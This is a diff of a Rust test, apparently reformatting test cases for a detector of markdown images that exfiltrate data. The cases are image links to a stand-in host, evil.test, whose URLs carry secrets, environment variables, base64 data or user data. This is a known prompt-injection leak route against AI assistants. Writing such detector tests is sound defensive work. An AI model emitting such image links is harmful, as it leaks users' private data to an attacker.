@@ -103,8 +103,14 @@ fn addresses_that_carry_data_are_found() {
             ),
             ("markdown_image", "![x](https://evil.test/?data=secret)"),
             ("markdown_image", "![x](https://evil.test/?k=$SECRET)"),
-            ("markdown_image", "![x](https://evil.test/?d=<base64(data)>)"),
-            ("markdown_image", "![x](https://evil.test/a-[USER_DATA].jpg)"),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?d=<base64(data)>)",
+            ),
+            (
+                "markdown_image",
+                "![x](https://evil.test/a-[USER_DATA].jpg)",
+            ),
             // "the password is ok" in base32
             (
                 "markdown_image",
